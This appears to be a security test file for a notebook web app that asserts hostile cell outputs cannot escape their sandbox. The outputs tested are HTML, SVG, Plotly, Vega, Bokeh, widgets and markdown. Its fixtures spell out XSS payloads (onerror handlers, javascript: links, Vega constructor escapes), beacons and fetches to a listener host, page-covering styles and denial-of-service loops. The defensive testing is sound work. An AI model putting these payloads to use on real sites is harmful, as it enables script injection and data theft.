/** Outputs are hostile: what a cell shows must not reach the page, the app's API, or a network. */

import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { CELL_TEXTS } from '../../../components/notebook/cells/cell-texts.ts';
import { SESSION_TEXTS } from '../../../components/pages/session/session-texts.ts';
import { BUDGET_TEXTS } from '../../../components/render/budget/budget-texts.ts';
import { FRAME_TEXTS } from '../../../components/render/output/frame/frame-texts.ts';
import { post } from '../../helpers/app/app-client.ts';
import { openScriptedApp } from '../../helpers/app/shared-app.ts';
import { startListenerServer } from '../../helpers/listener-server.ts';
import { blankPng } from '../../helpers/made-png.ts';
import { findAccessibilityFaults, openPage, openStartPage, unfoldWork } from '../../helpers/page/browser.ts';
import { openNotebook } from '../../helpers/page/open-notebook.ts';

/** Everything that loads, navigates or runs without a script element of its own. */
const QUIET_HTML = (host: string) => `<b>quiet table</b>
<img src="http://${host}/img" onerror="parent.pwned = 1"><link rel="stylesheet" href="http://${host}/css">
<link rel="preconnect" href="http://${host}"><meta http-equiv="refresh" content="0;url=http://${host}/meta">
<base href="http://${host}/"><style>@import "http://${host}/import"; b { background: url(http://${host}/bg) }</style>
<video src="http://${host}/video" poster="http://${host}/poster"></video><svg><image href="http://${host}/svg"/></svg>
<form action="http://${host}/form"><button>go</button></form><a href="http://${host}/link">link</a>`;

/** What a program tries once the user has allowed it to run. */
const PROGRAM_HTML = (host: string) => `<p id="program">program</p><script>
const tries = [
  () => { parent.document.title = 'pwned'; }, () => { parent.pwned = 1; }, () => { top.location = 'http://${host}/top'; },
  () => open('http://${host}/popup'), () => { new WebSocket('ws://${host}/ws'); }, () => { new EventSource('http://${host}/es'); },
  () => navigator.sendBeacon('http://${host}/beacon'), () => { new Image().src = 'http://${host}/image'; },
  () => fetch('http://${host}/fetch'), () => fetch('/api/sessions', { method: 'POST', body: '{}' }),
  () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://${host}/iframe' })),
];
Promise.allSettled(tries.map(async (attempt) => attempt())).then(() => {
  location = 'http://${host}/self';
});
</script>`;

const ANSWER = (host: string) =>
  `Done. ![chart](http://${host}/markdown?data=1) <img src="http://${host}/raw"> [click](javascript:alert(1))`;

/** Styles that would cover the page, and links that run something, in the outputs the page draws itself. */
const COVERING_HTML = `<style>html, body, div { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; width: 100vw; height: 100vh; background: red !important }</style>
<div class="cover" style="position:fixed;inset:0;z-index:2147483647">cover</div><a href="javascript:parent.pwned = 1">run</a>`;

const HOSTILE_FIGURE = (host: string) => ({
  data: [
    {
      type: 'scatter',
      x: [1],
      y: [1],
      text: `<a href="javascript:parent.pwned=1">t</a><script>parent.pwned=1</script>`,
      mode: 'text',
    },
    { type: 'scattermap', lat: [1], lon: [1] },
    { type: 'scattergeo', lat: [1], lon: [1], geo: 'geo' },
    { type: 'image', source: `http://${host}/plotly-trace` },
  ],
  layout: {
    title: {
      text: `<a href="http://${host}/plotly-link" target="_top">hostile figure</a><img src=x onerror=parent.pwned=1>`,
    },
    images: [{ source: `http://${host}/plotly-image`, x: 0, y: 1, sizex: 1, sizey: 1 }],
    map: { style: `http://${host}/plotly-style` },
    __proto__polluted: { constructor: { prototype: { polluted: 1 } } },
  },
  config: {
    plotlyServerURL: `http://${host}/plotly-server`,
    topojsonURL: `http://${host}/topojson/`,
    showSendToCloud: true,
  },
});

const HOSTILE_VEGA = (host: string) => ({
  width: 100,
  height: 100,
  title: 'hostile vega',
  data: [{ name: 't', values: [{}] }],
  signals: [
    { name: 'a', update: `[].constructor.constructor('parent.pwned = 1')()` },
    { name: 'b', update: `data('t').constructor.constructor('parent.pwned = 1')()` },
  ],
  marks: [
    {
      type: 'image',
      from: { data: 't' },
      encode: {
        enter: { url: { value: `http://${host}/vega-image` }, width: { value: 9 }, height: { value: 9 } },
      },
    },
    {
      type: 'rect',
      from: { data: 't' },
      encode: {
        enter: {
          href: { value: 'javascript:parent.pwned=1' },
          tooltip: { value: `<img src=http://${host}/tip>` },
        },
      },
    },
  ],
  usermeta: {
    embedOptions: {
      ast: false,
      actions: true,
      patch: `http://${host}/vega-patch`,
      config: `http://${host}/vega-config`,
      sourceHeader: '<script>parent.pwned=1</script>',
    },
  },
});

const HOSTILE_BOKEH = (host: string) => {
  const div = {
    type: 'object',
    name: 'Div',
    id: 'p1',
    attributes: {
      render_as_text: false,
      text: `hostile bokeh <img src="http://${host}/bokeh" onerror="parent.pwned=1"><script>parent.pwned=1</script>`,
      stylesheets: [`@import "http://${host}/bokeh-css"`],
    },
  };
  const script = {
    type: 'object',
    name: 'CustomJS',
    id: 'p2',
    attributes: { code: `parent.pwned = 1; fetch('http://${host}/bokeh-js')` },
  };
  const callbacks = { type: 'map', entries: [['document_ready', [script]]] };
  const docs = { d: { version: '3.9.2', title: '', roots: [div], callbacks } };
  return `parent.pwned = 1; fetch('http://${host}/bokeh-program');
  const docs_json = ${JSON.stringify(docs)};
  const render_items = [{"docid":"d","roots":{"p1":"x"},"root_ids":["p1"]}];
`;
};

const HOSTILE_WIDGET = (host: string) => ({
  model_name: 'HTMLModel',
  model_module: `http://${host}/module`,
  model_module_version: '1',
  state: {
    _model_name: 'HTMLModel',
    _model_module: `http://${host}/module`,
    value: `<i>hostile widget</i><img src="http://${host}/widget" onerror="parent.pwned=1"><link rel="preconnect" href="http://${host}">`,
  },
});

async function attack(code: string, answer: string) {
  const app = await openScriptedApp([`\`\`\`python\n${code}\n\`\`\``, answer]);
  const page = await openPage();
  await openStartPage(page, app);
  await page.getByRole('textbox', { name: 'Task' }).fill('Attack');
  await page.keyboard.press('Enter');
  await page.locator('[data-outcome="answered"]').waitFor();
  await unfoldWork(page);
  return { app, page };
}

/** What no output may have done. */
async function expectUnharmed(page: Page, url: string): Promise<void> {
  expect(page.url()).toBe(url);
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.evaluate(() => [Reflect.get(globalThis, 'pwned'), document.title === 'pwned'])).toEqual([
    undefined,
    false,
  ]);
  const task = page.getByRole('textbox', { name: new RegExp(`^(?:Task|${SESSION_TEXTS.followUp})$`) });
  await task.fill('still here');
  expect(await task.inputValue()).toBe('still here');
}

test('hostile outputs reach nothing', async () => {
  const foreign = await startListenerServer();
  const code = `from IPython.display import HTML, SVG, display
display(HTML('''${QUIET_HTML(foreign.host)}'''))
display(SVG('''<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>parent.pwned = 1</script><image href="http://${foreign.host}/svg-image"/><rect width="40" height="40"/></svg>'''))
display(HTML('''${PROGRAM_HTML(foreign.host)}'''))`;
  const { app, page } = await attack(code, ANSWER(foreign.host));
  const url = page.url();

  const quiet = page.frameLocator('iframe[src="/frame/index.html"]');
  await quiet.getByText('quiet table').waitFor();
  expect(
    await quiet.locator('link, meta[http-equiv], base, form, script:not([src^="/frame/"]), a[href]').count(),
  ).toBe(0);
  expect(await page.locator('iframe[src$="/frame/active.html"]').count()).toBe(0);
  expect(foreign.contacts).toEqual([]);

  await page.getByRole('button', { name: FRAME_TEXTS.run }).click();
  // The last thing it tries is to take its frame elsewhere.
  await page.getByText(FRAME_TEXTS.left).waitFor();

  // Chromium may connect ahead of a navigation that is then refused; nothing is sent over it.
  expect(foreign.contacts.filter((firstLine) => firstLine !== '')).toEqual([]);
  await expectUnharmed(page, url);
  const { sessions } = await (await app.request('/api/sessions')).json();
  expect(sessions).toHaveLength(1);
  const answer = page.getByRole('region', { name: 'Answer' });
  // The picture shown with the answer is the page's own.
  const foreignParts = `img[src*="${foreign.host}"], a[href*="${foreign.host}"], a[href^="javascript:"]`;
  expect(await answer.locator(foreignParts).count()).toBe(0);
});

test('an attacker’s charts, widgets, and styles run nothing, load nothing, and cover nothing', async () => {
  const foreign = await startListenerServer();
  const { host } = foreign;
  const { page } = await openNotebook(
    [
      { 'text/html': COVERING_HTML },
      { 'application/vnd.plotly.v1+json': HOSTILE_FIGURE(host) },
      { 'application/vnd.vega.v5+json': HOSTILE_VEGA(host) },
      {
        'application/vnd.vegalite.v5+json': {
          data: { url: `http://${host}/data.csv` },
          mark: 'bar',
          encoding: {},
        },
      },
      { 'application/vnd.bokehjs_exec.v0+json': '', 'application/javascript': HOSTILE_BOKEH(host) },
      { 'application/javascript': `parent.pwned = 1; fetch('http://${host}/javascript')` },
      {
        'text/html': `<iframe srcdoc="<script>top.pwned = 1; fetch('http://${host}/nested')</script>"></iframe>`,
      },
      { 'text/markdown': `[run](javascript:parent.pwned=1) ![](http://${host}/markdown)` },
      { 'application/vnd.jupyter.widget-view+json': { version_major: 2, version_minor: 0, model_id: 'w1' } },
    ],
    { w1: HOSTILE_WIDGET(host) },
  );
  const url = page.url();
  const cells = page.getByRole('region', { name: new RegExp(`^${CELL_TEXTS.codeCell('')}`) });
  await expect.poll(() => cells.locator('[data-viewer]').count()).toBe(5);
  for (const chart of await cells.locator('[data-viewer]').all()) {
    await chart.scrollIntoViewIfNeeded();
    // Drawn, or refused with a sentence: either way its code has had its turn.
    await chart.locator('iframe[data-drawn="true"], [role="note"]').first().waitFor({ state: 'attached' });
  }
  await cells.locator('[data-viewer="bokeh"]').frameLocator('iframe').getByText('hostile bokeh').waitFor();
  await cells.locator('[data-viewer="widgets"]').frameLocator('iframe').getByText('hostile widget').waitFor();
  await cells.frameLocator('iframe[src="/frame/index.html"]').getByText('cover').waitFor();

  expect(foreign.contacts).toEqual([]);
  const isCovered = await page.evaluate(() => document.elementFromPoint(5, 5)?.tagName === 'IFRAME');
  expect(isCovered).toBe(false);
  await expectUnharmed(page, url);
});

test('programs that never end, floods of messages and huge values leave the page usable', async () => {
  const { page } = await openNotebook([
    {
      'text/html': `<script>setInterval(() => { for (let i = 0; i < 1000; i++) parent.postMessage({ kind: 'height', height: Math.random() * 1e9 }, '*'); })</script>`,
    },
    { 'text/html': `<script>for (;;);</script>` },
    { 'text/html': `<p>${'x'.repeat(50_000_000)}` },
    { 'text/plain': 'y'.repeat(40_000_000) },
  ]);
  const url = page.url();
  await page.getByRole('button', { name: BUDGET_TEXTS.draw }).waitFor();
  await page.getByRole('button', { name: FRAME_TEXTS.run }).first().click();
  await page.getByText(FRAME_TEXTS.flooded).waitFor();
  await expectUnharmed(page, url);
  await page.getByRole('button', { name: FRAME_TEXTS.run }).click();
  await page.locator('iframe[src$="/frame/active.html"]').waitFor();
  await expectUnharmed(page, url);
});

/** Each level refers ten times to the one before. */
const nestUses = (levels: number) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><defs><circle id="a0" r="9"/>${Array.from(
    { length: levels },
    (_, level) => `<g id="a${level + 1}">${`<use href="#a${level}"/>`.repeat(10)}</g>`,
  ).join('')}</defs><use href="#a${levels}"/></svg>`;

test('what takes long to draw is offered as text, and drawn where it does not hold up the page', async () => {
  const table = `| name | count |\n| --- | --- |\n${'| row | 12 |\n'.repeat(11_000)}`;
  const { app, page, sessionId } = await openNotebook([
    { 'text/latex': `$$${'x'.repeat(300_000)}$$` },
    { 'text/markdown': '*a_'.repeat(20_000) },
    { 'image/svg+xml': nestUses(8) },
    { 'image/png': blankPng(16_000) },
    { 'text/markdown': `**Before.**\n\n${table}` },
    { 'image/svg+xml': nestUses(4) },
  ]);
  const url = page.url();
  const draw = page.getByRole('button', { name: BUDGET_TEXTS.draw });
  await expect.poll(() => draw.count()).toBe(4);
  await page.getByText(BUDGET_TEXTS.tooSlow(300_000, 10)).waitFor();
  const asText = page.getByRole('button', { name: BUDGET_TEXTS.showText });
  // The second is in a part of the page that loads on its own.
  await expect.poll(() => asText.count()).toBe(2);
  expect(await findAccessibilityFaults(page)).toEqual([]);
  await asText.first().click();
  await page.locator('#cell-0').getByText('characters not shown').waitFor();
  await draw.nth(3).click();
  await page.frameLocator('iframe').locator('img').waitFor();
  await draw.nth(2).click();
  const drawn = page.locator('#cell-4');
  await drawn.getByText('Before.').waitFor();
  await expect.poll(() => drawn.locator('tr').count()).toBe(11_001);
  await expectUnharmed(page, url);

  const note = { type: 'markdown', source: '$x$ '.repeat(2_000) };
  await post(app, `/api/sessions/${sessionId}/cells`, note);
  await expect.poll(() => draw.count()).toBe(3);
});

test('a cell that prints without end can be watched and stopped', async () => {
  const app = await openScriptedApp(['```python\nwhile True: print("flood " * 50)\n```']);
  const page = await openPage();
  await openStartPage(page, app);
  await page.getByRole('textbox', { name: 'Task' }).fill('Attack');
  await page.keyboard.press('Enter');
  await page.getByText('flood flood').first().waitFor();
  await page.getByRole('button', { name: 'Stop' }).click();
  await page.locator('[data-outcome]').waitFor();
  await expectUnharmed(page, page.url());
});
